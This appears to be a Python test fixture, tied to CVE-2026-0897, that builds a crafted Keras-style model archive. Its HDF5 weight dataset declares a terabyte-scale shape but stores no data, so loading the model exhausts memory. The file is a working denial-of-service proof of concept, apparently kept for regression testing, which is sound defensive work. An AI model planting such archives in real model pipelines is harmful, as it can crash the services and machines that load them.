"""A data set in the weights declares a shape of terabytes and stores nothing: reading it takes all memory
(CVE-2026-0897).
"""

import io

import h5py


def write(draft):
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        weights = file.create_group("layers/dense/vars")
        weights.create_dataset("0", shape=(10**6, 10**6), dtype="f4", chunks=(1000, 1000), compression="gzip")
        weights.create_dataset("1", shape=(1,), dtype="f4")
    dense = draft.layer("Dense", name="dense", units=1, activation="sigmoid")
    flat = draft.layer("Flatten", name="flatten")
    config = draft.sequential(flat, dense)
    for layer in config["config"]["layers"][1:]:
        layer["build_config"] = {"input_shape": [None, 3072] if layer is dense else [None, 32, 32, 3]}
    draft.model(draft.archive(config, weights=buffer.getvalue()))
